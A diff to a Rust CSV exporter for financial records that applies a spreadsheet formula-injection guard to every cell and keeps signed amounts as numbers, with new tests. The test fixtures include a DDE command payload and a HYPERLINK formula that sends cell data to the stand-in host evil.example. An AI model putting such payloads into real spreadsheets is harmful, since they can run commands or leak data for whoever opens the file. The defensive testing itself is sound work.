@@ -23,7 +23,7 @@ struct Sheet {
 enum Cell {
     /// A field as stored (amounts are exact decimal strings).
     Field(&'static str),
-    /// Free text, guarded against spreadsheet formulas.
+    /// Free text (every cell is guarded against formulas, see [`guard_formula`]).
     Text(&'static str),
     AccountName(&'static str),
     CategoryName(&'static str),
@@ -175,11 +175,12 @@ impl Spreadsheets {
             .columns
             .iter()
             .map(|(_, cell)| match cell {
-                Field(field) => text_of(row.get(*field)),
-                Text(field) => guard_formula(text_of(row.get(*field))),
+                Field(field) | Text(field) => text_of(row.get(*field)),
                 AccountName(field) => self.name_of(&self.account_names, row.get(*field)),
                 CategoryName(field) => self.name_of(&self.category_names, row.get(*field)),
             })
+            // Every cell, not only free text: a provider's account mask or IBAN is text too.
+            .map(guard_formula)
             .collect();
         let (writer, rows) = &mut self.writers[index];
         writer.write_record(&cells)?;
@@ -189,7 +190,7 @@ impl Spreadsheets {
 
     fn name_of(&self, names: &HashMap<String, String>, id: Option<&Value>) -> String {
         let id = text_of(id);
-        guard_formula(names.get(&id).cloned().unwrap_or(id))
+        names.get(&id).cloned().unwrap_or(id)
     }
 
     /// The sheets in zip order, each rewound.
@@ -221,13 +222,25 @@ fn text_of(value: Option<&Value>) -> String {
 
 /// A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@` (or a tab or carriage
 /// return) as a formula: a bank description like `=HYPERLINK(…)` would run on opening.
-/// Such text gets a leading apostrophe, which spreadsheets show as plain text.
+/// Such text gets a leading apostrophe, which spreadsheets show as plain text. A signed
+/// number (`-80.0000`, an amount) is no formula and stays a number.
 fn guard_formula(text: String) -> String {
-    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+    let signed_number = text.starts_with(['-', '+']) && is_unsigned_decimal(&text[1..]);
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) && !signed_number {
         format!("'{text}")
     } else {
         text
     }
+}
+
+/// `80`, `80.25`: digits with at most one point (how amounts are stored as text).
+fn is_unsigned_decimal(text: &str) -> bool {
+    let mut parts = text.splitn(2, '.');
+    let whole = parts.next().unwrap_or_default();
+    let fraction = parts.next().unwrap_or_default();
+    !whole.is_empty()
+        && whole.bytes().all(|b| b.is_ascii_digit())
+        && fraction.bytes().all(|b| b.is_ascii_digit())
 }
 
 #[cfg(test)]
@@ -242,6 +255,65 @@ mod tests {
         );
         assert_eq!(guard_formula("@SUM(A1)".into()), "'@SUM(A1)");
         assert_eq!(guard_formula("Market hall".into()), "Market hall");
+        for text in [
+            "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+            "-",
+            "+.5",
+        ] {
+            assert_eq!(guard_formula(text.into()), format!("'{text}"), "{text:?}");
+        }
+        for number in ["-80.0000", "+12", "-0.5", "12.50"] {
+            assert_eq!(guard_formula(number.into()), number, "amounts stay numbers");
+        }
+    }
+
+    /// Every sheet's every column, free text or not, as a spreadsheet would open it.
+    #[test]
+    fn no_cell_of_any_sheet_starts_a_formula() {
+        let scratch = tempfile::tempdir().unwrap();
+        let mut sheets = Spreadsheets::create(scratch.path()).unwrap();
+        let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Refund\")";
+        let account = serde_json::json!({"id": "a1", "name": "@SUM(1+1)", "kind": "checking",
+            "currency": "EUR", "current_balance": "-12.50", "iban": "+IBAN", "mask": "=1+1"});
+        let category = serde_json::json!({"id": "c1", "name": "-Groceries", "kind": "expense"});
+        let transaction = serde_json::json!({"id": "t1", "booked_at": "2026-03-01",
+            "account_id": "a1", "amount": "-80.0000", "currency": "EUR", "payee": "+payee",
+            "merchant": "\tmerchant", "description": evil, "category_id": "c1",
+            "tags": ["=tag", "ok"], "notes": "\rnote", "status": "posted"});
+        for (kind, row) in [
+            ("account", &account),
+            ("category", &category),
+            ("transaction", &transaction),
+        ] {
+            sheets.record(kind, &row.to_string()).unwrap();
+        }
+        let mut checked = 0;
+        for (name, sheet) in sheets.finish().unwrap() {
+            let mut reader = csv::Reader::from_reader(sheet.file);
+            for record in reader.records() {
+                let record = record.unwrap();
+                if name == "transactions.csv" {
+                    // booked_at, account, amount, currency, payee, merchant, description, category
+                    assert_eq!(&record[1], "'@SUM(1+1)");
+                    assert_eq!(&record[2], "-80.0000", "the amount stays a number");
+                    assert_eq!(&record[6], format!("'{evil}"));
+                    assert_eq!(&record[7], "'-Groceries");
+                }
+                for cell in record.iter() {
+                    let runs = cell.starts_with(['=', '+', '@', '\t', '\r'])
+                        || (cell.starts_with('-') && !is_unsigned_decimal(&cell[1..]));
+                    assert!(!runs, "{name}: {cell:?} would run as a formula");
+                    checked += 1;
+                }
+            }
+        }
+        assert!(
+            checked > 25,
+            "the three rows were written ({checked} cells)"
+        );
     }
 
     #[test]
